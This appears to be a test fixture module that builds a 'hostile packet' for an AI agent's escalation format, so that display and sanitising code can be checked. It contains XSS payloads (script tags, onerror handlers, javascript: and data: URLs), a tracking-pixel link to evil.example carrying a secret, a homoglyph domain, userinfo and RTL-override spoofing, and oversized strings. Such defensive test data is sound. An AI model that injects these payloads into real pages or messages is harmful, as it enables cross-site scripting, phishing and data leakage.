/** One word without a place to break it. */
const WORD = 'W'.repeat(10_000);
const MARKUP = `<script>window.pwned = 1; alert('pwned')</script><img src="x" onerror="alert('pwned')"><a href="https://evil.example/">Approve</a>`;
const MARKDOWN = '![pixel](https://evil.example/pixel.png?secret) [Approve](javascript:alert(1)) <https://evil.example/>';
const UNSEEN = 'invoice\u202Egnp.exe pass\u200Bword \u2066hidden\u2069\uFEFF \u{E0041}\u0007';
const NASTY = `${MARKUP}\n${MARKDOWN}\n${UNSEEN}\n${WORD}`;
const SHORT = `<b>${UNSEEN}</b>`;

const LINKS = [
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'https://ex\u0430mple.com/invoice', // the а is Cyrillic
  'https://bank.example@evil.example/',
  `https://evil.example/\u202E${'w'.repeat(2_000)}`,
  `//evil.example/${'w'.repeat(2_000)}`,
];
const ARGS = { note: NASTY, amount: 12, [`${SHORT} ${WORD}`]: 'odd name', nested: { [WORD]: [{ deep: NASTY }] }, list: [WORD, 1, null] };

/** Hostile text in every place that a packet has for text; each within its limit, the whole below 256 KiB. */
export const hostilePacket = () => ({
  original_request: NASTY,
  steps_completed: [
    {
      id: SHORT,
      action: `${SHORT} ${'W'.repeat(900)}`,
      status: 'failed',
      summary: NASTY,
      args: { [WORD]: MARKUP },
      evidence: [MARKUP, WORD.slice(0, 2_000)],
    },
    `${MARKUP} ${UNSEEN}`,
  ],
  current_state: { text: NASTY, value: { [SHORT]: NASTY } },
  reason_for_escalation: { code: 'authority_limit', text: NASTY, limit: SHORT, observed: 'W'.repeat(1_000) },
  recommended_action: {
    ...{ kind: 'tool_call', name: `${SHORT}${'W'.repeat(200)}`, args: ARGS, rationale: NASTY },
    alternatives: [{ kind: 'tool_call', name: SHORT, args: { note: WORD } }],
  },
  data_links: LINKS.map((url, at) => ({
    id: `${at}`,
    title: at % 2 ? 'https://bank.example/' : `${MARKUP} ${UNSEEN}`,
    url,
    classification: SHORT,
  })),
  attempts: [{ action: NASTY, outcome: UNSEEN, why: MARKDOWN }],
  confidence: { value: 0.5, source: SHORT },
  authority: { policy_id: 'W'.repeat(256), limit: 1e300, requested: 2, unit: 'W'.repeat(64) },
  agent: { id: `hostile ${SHORT}`, version: 'W'.repeat(256), model: MARKUP },
  requested_by: 'W'.repeat(256),
  parent: { task_id: 'W'.repeat(256) },
  options: [MARKUP, { [WORD]: 1 }],
  tags: ['W'.repeat(64), '<i>\u202E</i>'],
  resume: { [SHORT]: WORD },
  metadata: { [SHORT]: UNSEEN },
});

/** As much on one line as a packet may hold in one place. */
export const oneLongLine = () => ({ current_state: `${UNSEEN} ${'x'.repeat(190 * 1024)}` });
